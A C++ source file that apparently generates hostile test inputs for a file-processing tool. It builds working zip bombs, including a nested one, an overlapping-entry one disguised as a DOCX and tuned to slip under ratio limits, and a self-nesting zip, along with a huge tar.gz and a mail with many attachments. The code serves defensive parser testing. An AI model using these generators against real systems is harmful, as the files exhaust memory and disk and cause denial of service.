#include "HostileContainers.h"

#include <zlib.h>

#include <algorithm>
#include <array>
#include <cstdio>
#include <stdexcept>
#include <vector>

namespace harvelux::testfiles::hostile {

namespace {

constexpr std::size_t kMiB = std::size_t{1} << 20;
constexpr std::size_t kQuoteBytes = 5;  // a stored block's header

void le16(std::string& out, std::uint32_t value) {
    out += static_cast<char>(value & 0xFF);
    out += static_cast<char>((value >> 8) & 0xFF);
}
void le32(std::string& out, std::uint32_t value) {
    le16(out, value & 0xFFFF);
    le16(out, value >> 16);
}

// Raw deflate of `data` (a whole stream when `flush` is Z_FINISH, else
// blocks that end on a byte and refer to nothing before them).
std::string deflateRaw(const std::string& data, int level, int strategy, int flush) {
    z_stream stream{};
    if (deflateInit2(&stream, level, Z_DEFLATED, -15, 8, strategy) != Z_OK) throw std::runtime_error("deflateInit2");
    std::string out(deflateBound(&stream, data.size()) + 64, '\0');
    stream.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(data.data()));
    stream.avail_in = static_cast<uInt>(data.size());
    stream.next_out = reinterpret_cast<Bytef*>(out.data());
    stream.avail_out = static_cast<uInt>(out.size());
    deflate(&stream, flush);
    out.resize(stream.total_out);
    deflateEnd(&stream);
    return out;
}

// A deflate stream of `size` zeros, made of one compressed MiB repeated.
struct Deflated {
    std::string bytes;
    std::uint32_t crc = 0;
    std::uint64_t size = 0;
};
Deflated deflatedZeros(std::uint64_t size, int strategy) {
    const std::string mib(kMiB, '\0');
    const std::string block = deflateRaw(mib, 9, strategy, Z_FULL_FLUSH);
    const std::uint32_t mibCrc = static_cast<std::uint32_t>(crc32(0, reinterpret_cast<const Bytef*>(mib.data()), kMiB));
    Deflated out;
    out.size = size;
    uLong crc = crc32(0, nullptr, 0);
    for (std::uint64_t i = 0; i < size / kMiB; ++i) {
        out.bytes += block;
        crc = crc32_combine(crc, mibCrc, static_cast<z_off_t>(kMiB));
    }
    const std::string rest(static_cast<std::size_t>(size % kMiB), '\0');
    out.bytes += deflateRaw(rest, 9, strategy, Z_FINISH);
    crc = crc32_combine(crc, crc32(0, reinterpret_cast<const Bytef*>(rest.data()), static_cast<uInt>(rest.size())),
                        static_cast<z_off_t>(rest.size()));
    out.crc = static_cast<std::uint32_t>(crc);
    return out;
}

Deflated deflated(const std::string& data) {
    return {deflateRaw(data, 9, Z_DEFAULT_STRATEGY, Z_FINISH),
            static_cast<std::uint32_t>(
                crc32(0, reinterpret_cast<const Bytef*>(data.data()), static_cast<uInt>(data.size()))),
            data.size()};
}

// What a local header and its directory entry say of a member.
struct ZipFields {
    std::string name;
    std::uint32_t crc = 0;
    std::uint64_t compressed = 0;
    std::uint64_t size = 0;
    bool stored = false;
};

// From "version needed" to the extra field's length: what the local header
// and the directory entry share.
void appendFields(std::string& out, const ZipFields& fields) {
    le16(out, 20);
    le16(out, 0);
    le16(out, fields.stored ? 0 : 8);
    le16(out, 0);     // time
    le16(out, 0x21);  // date: 1980-01-01
    le32(out, fields.crc);
    le32(out, static_cast<std::uint32_t>(fields.compressed));
    le32(out, static_cast<std::uint32_t>(fields.size));
    le16(out, static_cast<std::uint32_t>(fields.name.size()));
    le16(out, 0);
}

std::string localHeader(const ZipFields& fields) {
    std::string out;
    le32(out, 0x04034B50);
    appendFields(out, fields);
    return out + fields.name;
}

// A ZIP written record by record, so that its directory may say what no
// honest writer would.
class RawZip {
public:
    // Bytes at the end of what is written so far; returns where they begin.
    std::uint32_t append(const std::string& bytes) {
        const auto at = static_cast<std::uint32_t>(bytes_.size());
        bytes_ += bytes;
        return at;
    }
    // A directory entry naming the local header at `at`.
    void addDirectory(const ZipFields& fields, std::uint32_t at) {
        le32(directory_, 0x02014B50);
        le16(directory_, 20);  // made by
        appendFields(directory_, fields);
        le16(directory_, 0);  // comment length
        le16(directory_, 0);  // disk
        le16(directory_, 0);  // internal attributes
        le32(directory_, 0);  // external attributes
        le32(directory_, at);
        directory_ += fields.name;
        ++count_;
    }
    // An honest member: its header, its data and its directory entry.
    void add(const std::string& name, const Deflated& data, bool stored = false) {
        const ZipFields fields{name, data.crc, data.bytes.size(), data.size, stored};
        addDirectory(fields, append(localHeader(fields) + data.bytes));
    }
    std::string finish() const {
        std::string out = bytes_ + directory_;
        le32(out, 0x06054B50);
        le16(out, 0);
        le16(out, 0);
        le16(out, static_cast<std::uint32_t>(count_));
        le16(out, static_cast<std::uint32_t>(count_));
        le32(out, static_cast<std::uint32_t>(directory_.size()));
        le32(out, static_cast<std::uint32_t>(bytes_.size()));
        le16(out, 0);
        return out;
    }

private:
    std::string bytes_;
    std::string directory_;
    std::size_t count_ = 0;
};

Deflated storedAs(const std::string& data) {
    Deflated out = deflated(data);
    out.bytes = data;
    return out;
}

}  // namespace

std::string nestedZipBomb(bool disguised) {
    constexpr int kFanOut = 16;
    const Deflated leaf = deflatedZeros(std::uint64_t{1} << 30, Z_DEFAULT_STRATEGY);
    const Deflated types = deflated("<Types/>");
    RawZip lowest;
    if (disguised) lowest.add("[Content_Types].xml", types);
    for (int i = 0; i < kFanOut; ++i) lowest.add(std::to_string(i) + ".txt", leaf);
    std::string level = lowest.finish();
    for (int depth = 2; depth <= 5; ++depth) {
        const Deflated packed = deflated(level);
        RawZip upper;
        if (disguised) upper.add("[Content_Types].xml", types);
        for (int i = 0; i < kFanOut; ++i)
            upper.add("level" + std::to_string(depth - 1) + "-" + std::to_string(i) + ".zip", packed);
        level = upper.finish();
    }
    return level;
}

std::string overlappingZipBomb(std::size_t entries, std::uint64_t memberBytes, bool asDocx) {
    // Fixed Huffman codes keep the stream's ratio near 160:1, under the
    // ratio a reader may refuse outright, so that only the totals stop it.
    const Deflated kernel = deflatedZeros(memberBytes, Z_FIXED);
    RawZip zip;
    std::string prefix = "zeros";
    if (asDocx) {
        zip.add("[Content_Types].xml",
                deflated(R"(<?xml version="1.0" encoding="UTF-8"?>)"
                         R"(<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">)"
                         R"(<Default Extension="xml" ContentType="application/xml"/></Types>)"));
        zip.add("word/document.xml",
                deflated(R"(<?xml version="1.0" encoding="UTF-8"?>)"
                         R"(<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">)"
                         R"(<w:body><w:p><w:r><w:t>bomb@example.com</w:t></w:r></w:p></w:body></w:document>)"));
        prefix = "word/embeddings/oleObject";
    }
    // Each entry's local header is followed by a stored block quoting the
    // next entry's header, so that every entry's deflate stream runs on
    // through the headers after it into the one kernel at the end. Built
    // from the last entry back: a header holds the CRC and sizes of all that
    // follows it.
    std::vector<ZipFields> fields(entries);
    std::vector<std::string> headers(entries);
    for (std::size_t i = entries; i-- > 0;) {
        ZipFields& mine = fields[i];
        mine.name = prefix + std::to_string(i) + ".bin";
        if (i + 1 == entries) {
            mine.crc = kernel.crc;
            mine.compressed = kernel.bytes.size();
            mine.size = kernel.size;
        } else {
            const std::string& next = headers[i + 1];
            const uLong nextCrc = crc32(0, reinterpret_cast<const Bytef*>(next.data()), static_cast<uInt>(next.size()));
            mine.crc = static_cast<std::uint32_t>(
                crc32_combine(nextCrc, fields[i + 1].crc, static_cast<z_off_t>(fields[i + 1].size)));
            mine.compressed = kQuoteBytes + next.size() + fields[i + 1].compressed;
            mine.size = next.size() + fields[i + 1].size;
        }
        headers[i] = localHeader(mine);
    }
    for (std::size_t i = 0; i < entries; ++i) {
        std::string quote;
        if (i > 0) {
            quote += '\0';  // a stored block, not the last
            le16(quote, static_cast<std::uint32_t>(headers[i].size()));
            le16(quote, static_cast<std::uint32_t>(~headers[i].size() & 0xFFFF));
        }
        const std::uint32_t at = zip.append(quote + headers[i]) + static_cast<std::uint32_t>(quote.size());
        zip.addDirectory(fields[i], at);
    }
    zip.append(kernel.bytes);
    return zip.finish();
}

std::string selfNamingZip(int levels) {
    std::string inner = "innermost@example.com\n";
    for (int i = 0; i < levels; ++i) {
        RawZip zip;
        zip.add("self.zip", storedAs(inner), true);
        inner = zip.finish();
    }
    return inner;
}

std::string emptyFilesTarGz(std::size_t files) {
    z_stream stream{};
    if (deflateInit2(&stream, 1, Z_DEFLATED, 15 + 16, 8, Z_DEFAULT_STRATEGY) != Z_OK)
        throw std::runtime_error("deflateInit2");
    std::string out;
    std::vector<char> buffer(kMiB);
    auto feed = [&](std::string& input, int flush) {
        stream.next_in = reinterpret_cast<Bytef*>(input.data());
        stream.avail_in = static_cast<uInt>(input.size());
        do {
            stream.next_out = reinterpret_cast<Bytef*>(buffer.data());
            stream.avail_out = static_cast<uInt>(buffer.size());
            deflate(&stream, flush);
            out.append(buffer.data(), buffer.size() - stream.avail_out);
        } while (stream.avail_out == 0);
        input.clear();
    };
    // One header, its fields but the name and checksum filled in once; the
    // checksum is the sum of its bytes, the checksum field counted as spaces.
    std::array<char, 512> header{};
    std::string("0000644").copy(&header[100], 7);
    std::string("0000000").copy(&header[108], 7);
    std::string("0000000").copy(&header[116], 7);
    std::string("00000000000").copy(&header[124], 11);
    std::string("00000000000").copy(&header[136], 11);
    header[156] = '0';
    std::string("ustar").copy(&header[257], 5);  // and a NUL
    std::string("00").copy(&header[263], 2);
    unsigned fixedSum = 8 * ' ';
    for (const char c : header) fixedSum += static_cast<unsigned char>(c);
    std::string chunk;
    chunk.reserve(kMiB + header.size());
    char name[32];
    for (std::size_t i = 0; i < files; ++i) {
        const int length = std::snprintf(name, sizeof name, "empty/%zu", i);
        std::fill(header.begin(), header.begin() + 100, '\0');
        std::copy(name, name + length, header.begin());
        unsigned sum = fixedSum;
        for (int j = 0; j < length; ++j) sum += static_cast<unsigned char>(name[j]);
        std::snprintf(&header[148], 8, "%06o", sum);
        header[155] = ' ';
        chunk.append(header.data(), header.size());
        if (chunk.size() >= kMiB) feed(chunk, Z_NO_FLUSH);
    }
    chunk.append(1024, '\0');
    feed(chunk, Z_FINISH);
    deflateEnd(&stream);
    return out;
}

std::string mailWithAttachments(std::size_t count) {
    std::string mail =
        "From: Sender <sender@example.com>\r\nTo: receiver@example.com\r\nSubject: many attachments\r\n"
        "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"part\"\r\n\r\n"
        "--part\r\nContent-Type: text/plain\r\n\r\nSee the attachments.\r\n";
    for (std::size_t i = 0; i < count; ++i) {
        const std::string name = "note" + std::to_string(i) + ".txt";
        mail += "--part\r\nContent-Type: text/plain; name=\"" + name +
                "\"\r\nContent-Disposition: attachment; filename=\"" + name + "\"\r\n\r\nwrite to person" +
                std::to_string(i) + "@example.com\r\n";
    }
    return mail + "--part--\r\n";
}

}  // namespace harvelux::testfiles::hostile
